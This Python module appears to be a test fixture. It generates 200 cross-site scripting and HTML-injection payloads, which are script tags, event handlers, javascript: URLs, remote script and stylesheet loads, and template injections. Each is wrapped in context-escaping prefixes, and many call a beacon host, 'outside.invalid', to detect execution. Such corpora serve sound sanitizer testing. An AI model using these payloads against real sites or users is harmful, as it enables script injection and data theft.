"""Two hundred texts that would run or load something in a page that let them: every vector in every disguise."""

from __future__ import annotations

__all__ = ("BEACON", "PAYLOADS")

BEACON = "outside.invalid"
"""A host nobody may be asked for; asking it shows as a request that leaves."""
_RUN = "window.ran=(window.ran||0)+1;fetch('http://outside.invalid/ran')"
_VECTORS = (
    f"<script>{_RUN}</script>",
    "<script src=//outside.invalid/x.js></script>",
    f'<img src=x onerror="{_RUN}">',
    "<img src=http://outside.invalid/pixel.png>",
    f'<svg onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    "<iframe src=http://outside.invalid/frame></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<body onload="{_RUN}">',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<a href="javascript:{_RUN}" id=lure>press</a>',
    "<link rel=stylesheet href=http://outside.invalid/x.css>",
    "<style>@import 'http://outside.invalid/x.css';*{background:url(http://outside.invalid/b)}</style>",
    '<meta http-equiv=refresh content="0;url=http://outside.invalid/gone">',
    "<base href=http://outside.invalid/>",
    "<object data=http://outside.invalid/o></object>",
    "<embed src=http://outside.invalid/e>",
    "<video autoplay src=http://outside.invalid/v poster=http://outside.invalid/p></video>",
    '<div style="background:url(http://outside.invalid/s)">x</div>',
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    "<form action=http://outside.invalid/f><button id=lure>go</button></form>",
    "![picture](http://outside.invalid/markdown.png) [link](javascript:alert(1))",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= 7*7 %>",
    "data:text/html,<script>window.ran=1</script>",
)
_DISGUISES = (
    "{}",
    '">{}',
    "'>{}",
    "</pre></details></li></ol></main>{}",
    "</title></script></style></textarea>{}",
    "--><!-- -->{}",
    "]]>\u202e\x00{}\ud7ff",
    "&lt;/code&gt;{}&quot; onmouseover=&quot;window.ran=1",
)
PAYLOADS = tuple(disguise.replace("{}", vector)
                 for disguise in _DISGUISES for vector in _VECTORS)  # fmt: skip
"""Each of them is another."""
